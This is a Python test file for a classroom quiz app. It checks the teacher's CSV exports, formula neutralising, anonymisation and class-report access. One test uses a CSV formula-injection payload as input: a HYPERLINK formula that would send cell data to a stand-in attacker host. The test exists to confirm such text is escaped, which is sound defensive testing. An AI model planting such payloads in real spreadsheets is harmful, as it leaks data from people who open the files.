"""A room's results as a teacher keeps them: the two CSV files (one row per person, one per
question asked) read from the store, with formula text neutralised and nothing that identifies
a browser; the printable class report, on the remote only, with each person's score only on
request and "too few answers" below the Calibration page's threshold."""

from __future__ import annotations

import csv
import io
import random

from tests.helpers import shipped_bank, shipped_library
from tests.test_room_page import db_url, open_room, polled, rooms, screen_of, texts
from tests.test_room_remote import everything
from trainer.quiz.findings import findings
from trainer.quiz.scoring import VERDICT_AT
from trainer.rooms import check, export
from trainer.rooms.codes import token_hash
from trainer.rooms.model import Room
from trainer.rooms.nicknames import generated_name
from trainer.rooms.questions import choose, grade_answer
from trainer.rooms.results import belief_points, class_scores, decision_points
from trainer.rooms.settings import RoomSettings, Source
from trainer.rooms.store import RoomStore
from trainer.views import room_report
from trainer.views.calibration_text import class_lead

__all__ = ["db_url", "rooms"]  # the fixtures (SQLite), shared with the Room page's tests

BANK = shipped_bank()
LIBRARY = shipped_library()
LESSON = LIBRARY.check()
assert LESSON is not None
CHECK = check.check_questions(LESSON)[0]
ITEM = next(i for i in choose(BANK, Source(count=3, seed=7)) if i.has_claim)
RIGHT = CHECK.right.label
WRONG = next(o.label for o in CHECK.options if not o.correct)


def mixed_room(rooms: RoomStore, **settings: object) -> tuple[str, str]:
    """A room asking a decision (a claim: challenge or pass) and then a "Check yourself"
    rules question."""
    room, host = rooms.create(Source(count=2, seed=7), RoomSettings(**settings),
                              [ITEM.id, CHECK.id], BANK.version)
    return room.code, host


def decide(rooms: RoomStore, code: str, token: str, action: str, stated: float) -> None:
    assert rooms.submit(code, token, 0, **grade_answer(  # type: ignore[arg-type]
        ITEM, action, stated, None, 3.0, BANK.version))


def rule(rooms: RoomStore, code: str, token: str, chosen: str) -> None:
    assert rooms.submit(code, token, 1,  # type: ignore[arg-type]
                        **check.rules_fields(CHECK, chosen, 2.0))


def infos() -> dict[int, export.QuestionInfo]:
    return {0: room_report.decision_info(ITEM, None), 1: room_report.check_info(CHECK)}


def files(rooms: RoomStore, code: str, host: str) -> tuple[str, str, Room]:
    """The per-person and per-question CSV text, as the remote offers them."""
    room = rooms.room(code)
    names = {s.token: s.nickname for s in rooms.seats(code, host) if not s.kicked}
    answers = rooms.answers(code, host)
    results = export.question_results(room, answers, names, infos())
    people = export.csv_text(export.student_header(results),
                             export.student_rows(room, answers, names, results))
    questions = export.csv_text(export.question_header(results),
                                export.question_rows(results))
    return people, questions, room


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def played(rooms: RoomStore, **settings: object) -> tuple[str, str, list[str]]:
    """A finished mixed room: Ann challenges at 80% and gets the rules question right, Ben
    passes at 30% and gets it wrong, Cy answers nothing."""
    code, host = mixed_room(rooms, **settings)
    ann, ben, _cy = (rooms.join(code, n) for n in ("Ann", "Ben", "Cy"))
    rooms.start(code, host)
    decide(rooms, code, ann.token, "Challenge", 0.8)
    decide(rooms, code, ben.token, "Pass", 0.3)
    rooms.reveal(code, host)
    rooms.next(code, host)
    rule(rooms, code, ann.token, RIGHT)
    rule(rooms, code, ben.token, WRONG)
    rooms.reveal(code, host)
    rooms.next(code, host)
    assert rooms.room(code).status == "finished"
    return code, host, [ann.token, ben.token, _cy.token]


# ------------------------------------------------------------------ the two files
def test_the_per_person_file_has_a_row_per_seat_with_each_answer_and_totals(
        rooms: RoomStore) -> None:
    code, host, _ = played(rooms, names="names")
    people, _q, _room = files(rooms, code, host)
    header, *rows = read(people)
    assert header == ["Name", "Q1 answer", "Q1 result", "Q1 chance of a bluff (%)",
                      "Q2 answer", "Q2 result", "Answered", "Right", "Best moves", "Points"]
    by_name = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert list(by_name) == ["Ann", "Ben", "Cy"]
    ann, ben, cy = by_name["Ann"], by_name["Ben"], by_name["Cy"]
    graded = {a.seat: a for a in rooms.answers(code, host, 0)}
    grades = {a.action: a.grade for a in graded.values()}
    words = {"best": "Best move", "good": "Good", "inaccuracy": "Inaccuracy",
             "mistake": "Mistake", "blunder": "Blunder"}
    assert ann["Q1 answer"] == "Challenge" and ann["Q1 chance of a bluff (%)"] == "80"
    assert ann["Q1 result"] == words[str(grades["Challenge"])]
    assert ben["Q1 answer"] == "Pass" and ben["Q1 chance of a bluff (%)"] == "30"
    assert ben["Q1 result"] == words[str(grades["Pass"])]
    labels = room_report.check_info(CHECK).labels
    assert ann["Q2 answer"] == labels[RIGHT] and ann["Q2 result"] == "right"
    assert ben["Q2 answer"] == labels[WRONG] and ben["Q2 result"] == "wrong"
    assert (ann["Answered"], ann["Right"], ben["Answered"], ben["Right"]) == ("2", "1", "2", "0")
    assert ann["Best moves"] == str(int(grades["Challenge"] == "best"))
    assert cy == {**cy, "Q1 answer": "", "Q1 result": "not answered", "Q2 result":
                  "not answered", "Answered": "0", "Right": "0", "Points": "0"}
    mine = graded[next(s for s, a in graded.items() if a.action == "Challenge")]
    points = belief_points(mine.stated, mine.bluff) + decision_points(mine.lost_pp or 0.0)
    assert ann["Points"] == str(round(points + 100))  # a right rules answer scores 100


def test_the_per_question_file_has_a_row_per_question_with_its_answer_and_counts(
        rooms: RoomStore) -> None:
    code, host, _ = played(rooms)
    _p, questions, _room = files(rooms, code, host)
    header, first, second = read(questions)
    assert header == ["Question", "Question text", "Kind", "Right answer", "Answered",
                      "Right", "Best move", "Good", "Inaccuracy", "Mistake", "Blunder",
                      "Share right (%)", "Mean win-% points lost"]
    q1, q2 = (dict(zip(header, r, strict=True)) for r in (first, second))
    assert q1["Question"] == "1" and q1["Kind"] == "decision (graded)"
    assert "Ben blocks" in q1["Question text"] or "?" in q1["Question text"]
    assert q1["Right answer"] == ITEM.best.label and q1["Answered"] == "2" and q1["Right"] == ""
    grades = [a.grade for a in rooms.answers(code, host, 0)]
    assert [int(q1[w]) for w in ("Best move", "Good", "Inaccuracy", "Mistake", "Blunder")] == \
        [grades.count(g) for g in ("best", "good", "inaccuracy", "mistake", "blunder")]
    assert q1["Share right (%)"] == str(round(100 * grades.count("best") / 2))
    assert q2["Kind"] == "rules (right or wrong)"
    assert q2["Question text"] == CHECK.prompt.question
    assert q2["Right answer"] == room_report.check_info(CHECK).labels[RIGHT]
    assert (q2["Answered"], q2["Right"], q2["Share right (%)"]) == ("2", "1", "50")
    assert q2["Best move"] == "" and q2["Mean win-% points lost"] == ""


def test_a_room_still_open_exports_the_questions_asked_so_far(rooms: RoomStore) -> None:
    code, host = mixed_room(rooms)
    ann = rooms.join(code, "Ann")
    rooms.start(code, host)
    decide(rooms, code, ann.token, "Pass", 0.5)
    people, questions, room = files(rooms, code, host)
    assert room.asked == 1
    assert "Q2 answer" not in read(people)[0] and len(read(questions)) == 2


def test_formula_text_in_a_name_or_a_text_cell_is_neutralised(rooms: RoomStore) -> None:
    # Joining refuses such a name; a row stored otherwise (an older release, a hand-edited
    # database) is still written out as text.
    code, host = mixed_room(rooms, names="names")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    seat, plus = rooms.join(code, "Eve"), rooms.join(code, "Pat")
    rooms.start(code, host)
    decide(rooms, code, seat.token, "Pass", 0.4)
    room = rooms.room(code)
    names = {seat.token: evil, plus.token: "+Plus"}
    answers = rooms.answers(code, host)
    sly = {0: export.QuestionInfo(text="@SUM(A1:A9) who knows", right="-1+1", rules=False)}
    results = export.question_results(room, answers, names, sly)
    people = read(export.csv_text(export.student_header(results),
                                  export.student_rows(room, answers, names, results)))
    questions = read(export.csv_text(export.question_header(results),
                                     export.question_rows(results)))
    assert [r[0] for r in people[1:]] == ["'+Plus", "'" + evil]
    assert questions[1][1] == "'@SUM(A1:A9) who knows" and questions[1][3] == "'-1+1"
    cells = [c for r in people + questions for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or
                (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]


def test_an_anonymous_room_exports_its_generated_names_only(rooms: RoomStore) -> None:
    code, host = mixed_room(rooms)
    assert rooms.room(code).settings.names == "anonymous"
    rng = random.Random(3)
    browsers = [f"learner-cookie-{i}-9f8e7d" for i in range(3)]
    seats = []
    for browser in browsers:
        name = generated_name(rng, rooms.taken_names(code))
        seats.append(rooms.join(code, name, browser=browser))
    rooms.start(code, host)
    for seat in seats:
        decide(rooms, code, seat.token, "Challenge", 0.6)
    rooms.reveal(code, host)
    rooms.finish(code, host)
    people, questions, _room = files(rooms, code, host)
    assert sorted(r[0] for r in read(people)[1:]) == sorted(s.nickname for s in seats)
    secrets = [s.token for s in seats] + browsers + [token_hash(b) for b in browsers] + \
        [token_hash(s.token) for s in seats]
    for text in (people, questions):
        for secret in secrets:
            assert secret not in text and secret[:12] not in text


# ------------------------------------------------------------------ the report's words
def test_the_class_calibration_says_too_few_answers_and_no_figure_below_the_threshold(
        rooms: RoomStore) -> None:
    code, host, _ = played(rooms)
    room = rooms.room(code)
    names = {s.token: s.nickname for s in rooms.seats(code, host)}
    answers = rooms.answers(code, host)
    f = findings(export.claims_frame(room, answers, names))
    assert f.n_scored == 2 and not f.enough
    page = room_report.calibration_html(f, class_scores(answers))
    assert "Too few answers to tell" in page and f"takes {VERDICT_AT} judged claims" in page
    assert "Brier" not in page and "0." not in page


def test_the_class_calibration_gives_its_figures_from_the_threshold_on() -> None:
    import pandas as pd

    n = VERDICT_AT + 4
    frame = pd.DataFrame({"stated": [0.8 if i % 2 else 0.2 for i in range(n)],
                          "bot": [0.6 if i % 2 else 0.4 for i in range(n)],
                          "bluff": pd.Series([bool(i % 2) for i in range(n)], dtype=object)})
    f = findings(frame)
    assert f.enough
    lead = " ".join(class_lead(f))
    assert f"The class judged {n} claims." in lead and "Too few answers" not in lead


# ------------------------------------------------------------------ the remote and the screen
def finished_bank_room(rooms: RoomStore) -> tuple[str, str]:
    """A finished one-question room of the shipped bank, two people answered."""
    room, host = rooms.create(Source(count=1, seed=7), RoomSettings(), [ITEM.id],
                              BANK.version)
    code = room.code
    ann, ben = rooms.join(code, "Zed"), rooms.join(code, "Quin")
    rooms.start(code, host)
    decide(rooms, code, ann.token, "Challenge", 0.9)
    decide(rooms, code, ben.token, "Pass", 0.2)
    rooms.reveal(code, host)
    rooms.next(code, host)
    return code, host


def downloads(at: object) -> list[str]:
    return [str(e.proto.label) for e in at.get("download_button")]  # type: ignore[attr-defined]


def test_the_remote_offers_both_files_and_the_report_once_the_room_has_ended(
        rooms: RoomStore) -> None:
    code, host = finished_bank_room(rooms)
    remote = open_room(code=code, host=host)
    assert downloads(remote) == [room_report.PER_PERSON, room_report.PER_QUESTION]
    assert room_report.REPORT_LINK in everything(remote)


def test_the_remote_offers_no_file_before_the_first_question(rooms: RoomStore) -> None:
    code, host = mixed_room(rooms)
    assert downloads(open_room(code=code, host=host)) == []


def test_the_screen_view_never_shows_the_files_or_the_report(rooms: RoomStore) -> None:
    code, host = finished_bank_room(rooms)
    screen = screen_of(rooms, code, host)
    polled(screen)
    drawn = everything(screen)
    assert "How the room did" in drawn
    assert downloads(screen) == []
    assert room_report.REPORT_LINK not in drawn and "report=" not in drawn
    assert "Class report" not in drawn and room_report.PER_PERSON not in drawn


def test_the_report_hides_each_persons_score_until_asked(rooms: RoomStore) -> None:
    code, host = finished_bank_room(rooms)
    report = open_room(code=code, host=host, report="1")
    page = everything(report)
    assert f"Class report: room {code}" in page and "The hardest questions" in page
    assert "Too few answers to tell" in page
    assert ITEM.best.label in page
    assert "<h2>Each person</h2>" not in page and "Zed" not in page and "Quin" not in page
    toggle = report.toggle(key="room_report_scores")
    assert toggle.value is False
    toggle.set_value(True).run()
    page = everything(report)
    assert "<h2>Each person</h2>" in page and "Zed" in page and "Quin" in page


def test_the_report_needs_the_host_key(rooms: RoomStore) -> None:
    code, host = finished_bank_room(rooms)
    report = open_room(code=code, host="not-the-key", report="1")
    assert "does not carry" in texts(report) and "hardest" not in everything(report)
    screen = rooms.screen_token(code, host)
    report = open_room(code=code, screen=screen, report="1")
    assert "hardest" not in everything(report) and downloads(report) == []


def test_a_check_yourself_room_reports_its_right_answers_as_the_phones_word_them(
        rooms: RoomStore) -> None:
    ids = [q.id for q in check.check_questions(LESSON)]
    room, host = rooms.create(Source(kind="check", lesson=check.DEFAULT_LESSON, count=len(ids)),
                              RoomSettings(), ids, check.version(LIBRARY))
    code = room.code
    ann = rooms.join(code, "Ann")
    rooms.start(code, host)
    assert rooms.submit(code, ann.token, 0,  # type: ignore[arg-type]
                        **check.rules_fields(CHECK, WRONG, 2.0))
    rooms.reveal(code, host)
    rooms.finish(code, host)
    report = open_room(code=code, host=host, report="1")
    page = everything(report)
    assert "0 of 1 answer right" in page
    assert room_report.check_info(CHECK).labels[RIGHT] in page
    assert "judged no claim" in page
